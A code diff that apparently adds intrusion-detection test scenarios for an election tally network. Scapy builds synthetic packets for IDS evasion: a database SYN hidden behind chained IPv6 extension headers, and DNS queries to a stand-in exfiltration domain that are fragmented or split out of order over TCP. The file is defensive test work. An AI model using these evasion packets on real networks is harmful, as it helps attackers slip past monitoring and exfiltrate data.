@@ -64,8 +64,8 @@ class Scenario:
 
 
 #: The reference site as a dual-stack site: IPv6 addresses of the gateway and tally server.
-DUAL_STACK = {"gateway_ip": [GATEWAY, "2001:db8:20::1"],
-              "tally_server": [TALLY, "2001:db8:20::10"]}
+DUAL_STACK: dict[str, list[Any]] = {"gateway_ip": [GATEWAY, "2001:db8:20::1"],
+                                    "tally_server": [TALLY, "2001:db8:20::10"]}
 
 
 def db_attack(c: Capture) -> None:
@@ -290,6 +290,46 @@ def ndp_spoof(target: str) -> Callable[[Capture], None]:
     return build
 
 
+TALLY6, ATTACKER6 = "2001:db8:20::10", "2001:db8:20::66"
+
+
+def ipv6_chain_db_syn(c: Capture) -> None:
+    """A SYN to the database behind 13 destination-options headers, accepted."""
+    from scapy.layers.inet6 import IPv6, IPv6ExtHdrDestOpt
+    background(c)
+    pkt: Any = IPv6(src=ATTACKER6, dst=TALLY6)
+    for _ in range(13):
+        pkt = pkt / IPv6ExtHdrDestOpt()
+    c.add(T0 + 3, _eth(ATTACKER_MAC, TALLY_MAC) / pkt / TCP(sport=41800, dport=5432,
+                                                            flags="S", seq=1000))
+    c.add(T0 + 3.001, _eth(TALLY_MAC, ATTACKER_MAC) / IPv6(src=TALLY6, dst=ATTACKER6)
+          / TCP(sport=5432, dport=41800, flags="SA", seq=7, ack=1001))
+
+
+def fragmented_dns(c: Capture) -> None:
+    """The tally server asks an outside name in a query split into two IP fragments."""
+    from scapy.layers.inet import IP, fragment
+    background(c)
+    q = IP(src=TALLY, dst="10.20.0.2", id=4000) / UDP(sport=44500, dport=53) / DNS(
+        id=5, rd=1, qd=DNSQR(qname="hidden.exfil-example.net", qtype="A"))
+    for i, f in enumerate(fragment(IP(bytes(q)), fragsize=24)):
+        c.add(T0 + 3 + i * 0.001, _eth(TALLY_MAC, "02:00:00:00:01:02") / f)
+
+
+def split_tcp_dns(c: Capture) -> None:
+    """The same over TCP, one byte of the length in the first segment, out of order."""
+    from scapy.packet import Raw
+    background(c)
+    msg = bytes(DNS(id=6, rd=1, qd=DNSQR(qname="tcp-hidden.exfil-example.net", qtype="TXT")))
+    stream = len(msg).to_bytes(2, "big") + msg
+    c.ip(T0 + 3, TALLY, "10.20.0.2", TCP(sport=44600, dport=53, flags="S", seq=100))
+    c.ip(T0 + 3.001, "10.20.0.2", TALLY, TCP(sport=53, dport=44600, flags="SA", seq=9, ack=101))
+    c.ip(T0 + 3.002, TALLY, "10.20.0.2", TCP(sport=44600, dport=53, flags="PA", seq=102,
+                                             ack=10) / Raw(stream[1:]))
+    c.ip(T0 + 3.003, TALLY, "10.20.0.2", TCP(sport=44600, dport=53, flags="PA", seq=101,
+                                             ack=10) / Raw(stream[:1]))
+
+
 def mac_of_attacker() -> str:
     return ATTACKER_MAC
 
@@ -499,6 +539,19 @@ SCENARIOS: dict[str, Scenario] = {
         ndp_spoof("2001:db8:20::10"), "ndp-tally-server-spoofed", "critical",
         {"kind": "net.ndp", "target_ip": "2001:db8:20::10", "mac": ATTACKER_MAC},
         frozenset({"ndp-tally-server-spoofed"}), lists=DUAL_STACK),
+    "d15-ipv6-header-chain-syn": Scenario(
+        ipv6_chain_db_syn, "tally-db-unauthorized-access", "critical",
+        {"src_ip": ATTACKER6, "dst_ip": TALLY6, "dst_port": 5432},
+        frozenset({"tally-db-unauthorized-access"}),
+        lists={**DUAL_STACK, "tally_server": [TALLY, TALLY6]}),
+    "d15-dns-in-two-fragments": Scenario(
+        fragmented_dns, "dns-query-outside-allowed-domains", "medium",
+        {"qname": "hidden.exfil-example.net", "src_ip": TALLY},
+        frozenset({"dns-query-outside-allowed-domains"})),
+    "d15-dns-over-tcp-split": Scenario(
+        split_tcp_dns, "dns-query-outside-allowed-domains", "medium",
+        {"qname": "tcp-hidden.exfil-example.net", "qtype": "TXT", "src_ip": TALLY},
+        frozenset({"dns-query-outside-allowed-domains"})),
     "d14-rogue-dhcp": Scenario(
         rogue_dhcp, "rogue-dhcp-server", "critical", {"src_ip": ATTACKER, "src_port": 67},
         frozenset({"rogue-dhcp-server"})),
